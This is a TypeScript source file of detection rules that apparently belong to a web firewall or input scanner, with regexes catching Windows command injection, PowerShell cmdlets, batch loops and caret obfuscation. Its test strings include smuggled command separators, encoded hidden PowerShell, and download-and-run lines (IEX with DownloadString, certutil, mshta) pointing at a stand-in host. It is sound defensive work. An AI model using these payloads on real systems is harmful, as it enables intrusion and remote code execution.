import type { Rule } from '../../rule.ts';
import { early, values, valuesAndHeaders } from '../words.ts';
import { cmdlets, runningCmdlets, windowsPlain, windowsPrograms } from './programs.ts';

const begin = String.raw`^[\s"'(=@&|;]{0,6}`;
const verbs = String.raw`(?:@|\()?(?:cmd|echo|set|goto|call|del|copy|md|mkdir|dir|start|do|exit|move|type|rem|powershell|for|if|cls|pause)\b`;

export const windowsCommandRules: readonly Rule[] = [
  {
    id: 'command-windows-appended',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Programs of Windows after a separator of commands, near the beginning of a value.',
    in: values,
    screen: 'separator',
    when: [
      {
        regex:
          early +
          String.raw`(?:[;|&\r\n]|&&|\|\|)[\s"'(@^]{0,4}(?:[a-z]:\\[\w\\ ]{0,60}\\|%\w+%\\(?:\w+\\)*)?(?:` +
          windowsPrograms +
          String.raw`(?:\.exe)?["']?(?:\s*(?:$|[<>|&;/"'%-])|\s+(?:[-/%<>"'\\.\w]*[/%<>"'\\.:]\S*|\w+\s*(?:$|[|&]|/)))|` +
          windowsPlain +
          String.raw`(?:\s+(?:/[a-z?]|[a-z]:[\\/]|%\w+%|"[a-z]:|\.{1,2}\\|\*\.|\\|\d{1,2}:\d\d\s+["\w]))|@?(?:echo|set|if|for|start|call)\s+(?:/[a-z]\s|%\w+%))|^[\s"']{0,3}[|&]{1,2}\s*(?:dir|ver|vol|tree|set)\s*$|^[^\s?=&|]*[|&](?:dir|ver|vol|type|path|tree|set)\s*(?:$|[|&])|[;|&]\s*net1?\s+(?:users?|localgroup|group)\s+\S`,
      },
    ],
    bad: [
      'x & ipconfig /all',
      'x|dir C:\\',
      '; mshta http://a.example',
      ';certutil -urlcache -f http://a.example/x',
      '&bcdboot <file.txt',
      'a&type C:\\x',
      '|dir',
      '&& net user',
      'a&& whoami',
      'x"|bcdboot %SYSTEMROOT%\\win.ini',
    ],
    good: [
      'https://img.example/badge?color=gray&label',
      'Go to store.\nAt the store, shop.',
      'start & end',
      'copy | paste',
      'A; more & better',
      'R&D',
    ],
  },
  {
    id: 'command-windows-in-header',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Programs of Windows after a separator of commands at the beginning of a header.',
    in: ['headers', 'user_agent', 'referer'],
    screen: 'separator',
    when: [
      {
        regex:
          String.raw`^["'\d]{0,4}[;|&]{1,2}[\s"'(@^]{0,4}(?:` +
          windowsPrograms +
          String.raw`(?:\.exe)?(?:\s+[-/\w"%.]|\s*$)|(?:dir|type|copy|del|tree|start)\s+(?:/[a-z]\b|"?[a-z]:\\|%\w+%)|net1?\s+(?:users?|localgroup|group|view|share)\b)`,
      },
    ],
    bad: [
      { headers: { 'user-agent': '& dir C:\\' } },
      { headers: { 'x-a': '| net user' } },
      { headers: { 'x-a': '&& type C:\\Windows\\win.ini' } },
    ],
    good: [{ headers: { 'x-a': '; type=page' } }, { headers: { 'user-agent': 'App/1.0 (Windows; net 4.8)' } }],
  },
  {
    id: 'command-windows-shell',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'cmd and PowerShell with what they are to run.',
    in: valuesAndHeaders,
    screen: 'windowsShell',
    when: [
      {
        regex:
          early +
          String.raw`(?:\bcmd(?:\.exe)?["']?\s*/{1,2}[a-z]\b|\bcmd\.exe\b|%(?:comspec|systemroot|windir|programdata|temp|tmp|appdata|userprofile|programfiles)(?::~[^%]{1,12})?%|\b(?:powershell|pwsh)(?:\.exe)?["']?\s+(?:[-/][a-z]|[a-z]:\\|["'&$({]|iex|invoke))|` +
          String.raw`\b(?:powershell|pwsh)(?:\.exe)?["']?\s[^\n]{0,120}[-/]e(?:nc?|ncod\w*|c)?\s+["']?[a-z0-9+/=]{16}|-(?:ep|exec\w*)\s+bypass|-w(?:indowstyle)?\s+hidden|\[system\.(?:reflection|convert|net|text|io)[\w.]*\]::|frombase64string\s*\(|\.downloadstring\s*\(|\.downloadfile\s*\(|net\.webclient\b|certutil(?:\.exe)?\s+-[\w-]{2,20}\s+-|bitsadmin(?:\.exe)?\s+/transfer|xp_cmdshell|wmic\s+(?:process\s+call|/node)|rundll32(?:\.exe)?\s+\S+,`,
      },
    ],
    bad: [
      'cmd /c dir',
      '%COMSPEC% /c x',
      'powershell C:\\windows\\system32\\notepad.exe',
      'powershell -nop -w hidden -enc aQBlAHgAaQBlAHgAaQBl',
      "IEX(New-Object Net.WebClient).DownloadString('http://a.example')",
    ],
    good: ['powershell tutorial', 'cmd or ctrl', 'cmd: what is it', 'press cmd/ctrl'],
  },
  {
    id: 'command-cmdlet',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Cmdlets of PowerShell with arguments, near the beginning of a value, and aliases of those that fetch and run.',
    in: values,
    screen: 'cmdlet',
    when: [
      {
        regex:
          early +
          String.raw`\b` +
          runningCmdlets +
          String.raw`\b(?:\s*(?:$|[("'$|;{-])|\s+(?:https?:|[a-z]:\\|\S*[\\/.]\S|[$@("'{-]))|` +
          early +
          String.raw`(?:[;|&(\n]\s*|^)(?:iex|iwr|irm|saps|sajb|icm)\s*(?:\(|\s["'$(]|\s-\w|\shttps?:|\s\S+\.\S)|\|\s*iex\b|&\s*\(\s*["'](?:[^"']{1,20}["']\s*\+\s*["']){1,4}`,
      },
    ],
    bad: [
      'Invoke-WebRequest http://a.example/x.ps1',
      'Invoke-Expression -Command x',
      ';iwr http://a.example',
      ';iex (iwr http://a.example/x.ps1)',
      'x|iex',
      "&('Inv'+'oke-Expression')",
    ],
    good: ['What does Get-Content do in PowerShell?', 'Mi szép, mi édes; szeretni', 'the Get-Process command', 'iex is a stock exchange'],
  },
  {
    id: 'command-windows-loop',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Loops and conditions of the command line of Windows.',
    in: values,
    screen: 'windowsLoop',
    when: [
      {
        regex:
          String.raw`\bfor\s[^\n]{0,100}%{1,2}\S{0,20}\s+in\s*\([^\n]{0,200}\)\s*do\b|` +
          begin +
          String.raw`if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel)\s+\S[^\n]{0,120}?[\s)](?:${verbs}|\(\s*(?:$|${verbs}))|` +
          begin +
          String.raw`if\s+(?:/i\s+)?(?:not\s+)?[^\n]{1,80}?[\s)"%](?:equ|neq|lss|leq|gtr|geq)\s+\S|` +
          begin +
          String.raw`if\s+(?:(?:/i\s+)?(?:not\s+)?(?:["\[{]?%[^\s=]{1,40}|"[^"]{1,40}"|\[[^\]\s]{1,40}\]|[^\s=()"':;,$]{1,40})\s*={2,3}\s*(?:"[^"]{0,40}"|[^\s:()"';]{1,40})(?:\s+[^\s:]|\s*$))`,
      },
    ],
    bad: [
      'for %variable in (set) do command',
      'for /f "usebackq" %variable in (`command`) do command',
      '& FOR %a IN (a,b,c)DO cmd',
      'IF EXIST filename CMD',
      'IF NOT DEFINED BAR (',
      'IF %ERRORLEVEL% EQU 2 goto x',
      'IF /I item1==item2 CMD',
      'if "%VAR%" == "after" @echo ok',
      'if a==b foo',
      'IF (2 GEQ 15) echo "bigger"',
      'if [AA] == [AA] echo same',
      'if not %1 == "" (',
      'if /i not "a"=="b" foo',
      'if not {%1} == {}',
      'IF "%1"=="/?" ...',
    ],
    good: [
      'iffoo a==b foo',
      'If not defined, the default is used',
      'if exist',
      'if (a == b) { c(); }',
      'if a == b: pass',
      'if it is, do it',
      'for 5 % in a do',
    ],
  },
  {
    id: 'command-caret',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Commands of Windows broken by carets.',
    in: values,
    screen: 'caret',
    when: [{ regex: String.raw`[a-z]\^[a-z](?:\^?[a-z]){0,3}\^[a-z]{1,3}(?:\^[a-z]{1,6})+` }],
    bad: ['w^h^o^a^m^i', '&p^o^w^ershell x', 'c^e^r^tutil'],
    good: ['a^2 + b^2', 'x^y', '^_^', 'E=mc^2'],
  },
  {
    id: 'command-windows-word',
    family: 'command',
    severity: 'critical',
    paranoia: 2,
    stops: 'Cmdlets of PowerShell and commands of Windows anywhere.',
    in: values,
    screen: 'cmdlet',
    when: [{ regex: String.raw`\b` + cmdlets + String.raw`\b|[;|&]\s*(?:at\s+\d{1,2}:\d\d|iwr\b|iex\b)` }],
    bad: ['and then you call Invoke-WebRequest on it', ';at 2:00 "x"'],
    good: ['meet me at 2:00'],
  },
];
